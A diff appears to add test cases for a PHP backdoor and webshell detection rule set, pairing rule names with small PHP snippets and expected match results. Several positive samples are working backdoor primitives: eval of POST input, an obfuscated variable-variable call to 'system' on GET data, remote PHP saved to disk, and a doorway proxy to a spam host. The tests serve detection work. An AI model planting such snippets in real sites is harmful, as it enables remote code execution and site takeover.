@@ -259,4 +259,132 @@ CASES: list[tuple[str, bytes, bool]] = [
         b"<?php // see .user.ini\n$v = ini_get('auto_prepend_file'); echo $v;",
         False,
     ),
+    # --- round 3: indirect writes, loaders, callbacks, doorways; near misses from Debian trees -------
+    (
+        "SPAMGEAR_BACKDOOR_InputPathAndBodyWrite",
+        b"<?php $body = stripslashes($_POST['body']);\n$h = @fopen($_POST['to'], 'a');\n@fputs($h, $body);",
+        True,
+    ),
+    (
+        "SPAMGEAR_BACKDOOR_InputPathAndBodyWrite",
+        b"<?php $body = $_POST['body'];\n$h = fopen('/var/log/app/feedback.log', 'a');\nfputs($h, $body);",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_WrittenInputIncluded",
+        b"<?php $c = base64_decode($_GET['c']);\nfile_put_contents('cache_view.html', $c);\n"
+        b"require 'cache_view.html';",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_WrittenInputIncluded",
+        b"<?php $n = intval($_GET['n']);\nfile_put_contents('count.txt', $n);\nrequire 'footer.php';",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_InputFileEditor",
+        b"<?php $p = $_POST['p']; $t = $_POST['t'];\n$old = file_get_contents($p);\n"
+        b"if ($t) { $f = fopen($p, 'w'); fwrite($f, $t); fclose($f); }\n?>"
+        b"<form method=post><input name=p><textarea name=t><?php echo $old; ?></textarea></form>",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_InputFileEditor",
+        b"<?php $p = $_POST['p']; $t = $_POST['t'];\nif (!in_array($p, $pages)) exit;\n"
+        b"$old = file_get_contents($p);\nfile_put_contents($p, "
+        b"$t);\n?><textarea><?php echo $old; ?></textarea>",
+        False,
+    ),
+    ("SPAMGEAR_TINY_EvalOfFileContents", b"<?php eval(file_get_contents('logo_small.gif')); ?>", True),
+    (
+        "SPAMGEAR_TINY_EvalOfFileContents",
+        b"<?php $cfg = json_decode(file_get_contents('settings.json'), true); eval('$x = 1;');",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_IncludeOfNonCodeFile",
+        b'<?php @include "/home/site/public_html/favicon_3a1c.ico";',
+        True,
+    ),
+    ("SPAMGEAR_TINY_IncludeOfNonCodeFile", b"<?php\n\tinclude 'notes.txt';\n", True),
+    ("SPAMGEAR_TINY_IncludeOfNonCodeFile", b"<?php include 'index.html'; ?>", False),
+    (
+        "SPAMGEAR_TINY_YamlCallbackSink",
+        b"<?php yaml_parse($doc, 0, $n, array('!x' => 'assert'));",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_YamlCallbackSink",
+        b"<?php yaml_parse($doc, 0, $n, array('!date' => 'parse_date_tag'));",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_BuiltVarVarCall",
+        b"<?php $f = 'fn'; $x = '_'; $y = 'GET'; $fn = 'sys' . 'tem';\n${$f}(${$x . $y}['c']);",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_BuiltVarVarCall",
+        b"<?php $name = 'cfg_' . $key; echo ${$prefix . $name}; $cb = 'render'; $cb();",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_RemotePhpSavedByName",
+        b"<?php $url = 'http://cdn.example.org/x/tool.php';\n$file = basename($url);\n"
+        b"file_put_contents($file, file_get_contents($url));",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_RemotePhpSavedByName",
+        b"<?php $url = 'https://api.example.org/v1/status.php';\n$r = file_get_contents($url);\necho $r;",
+        False,
+    ),
+    (
+        "SPAMGEAR_TINY_RemoteDoorwayProxy",
+        b"<?php $src = 'http://spam.example.net/';\n"
+        b"$page = file_get_contents($src . 'p.php?h=' . $_SERVER['HTTP_HOST'] . "
+        b"'&q=' . $_SERVER['QUERY_STRING']);\n"
+        b"echo $page;",
+        True,
+    ),
+    (
+        "SPAMGEAR_TINY_RemoteDoorwayProxy",
+        b"<?php $api = 'https://license.example.com/';\n"
+        b"$ok = file_get_contents($api . 'check?site=' . "
+        b"$_SERVER['HTTP_HOST']);\nif ($ok !== 'yes') die('unlicensed');",
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_TinyCallbackOfInput",
+        b"<?php $s = ''; foreach (array($_GET['id']) as $v) { $s .= $v; } "
+        b"ob_start($s); echo 1; ob_end_flush();",
+        True,
+    ),
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        b"<?php assert(isset($_REQUEST['id'])); assert(is_string($_POST['name']));",
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        b"<?php if (!function_exists('getallheaders')) { eval('function "
+        b"getallheaders() { return array(); }'); }",
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_InputAsFunction",
+        b"<?php $module = new $_GET['module']($_GET['scope']);",
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_SmallInputAndSink",
+        b"<?php\n/* " + b"plugin licence text " * 80 + b"*/\nclass Runner {\n"
+        b"  function run() { if (isset($_POST['go'])) proc_open($this->command, $d, $p); }\n}",
+        False,
+    ),
+    (
+        "SPAMGEAR_INPUT_SmallInputAndSink",
+        b"<?php $this->c = $_POST['c']; eval($this->c);",
+        True,
+    ),
 ]
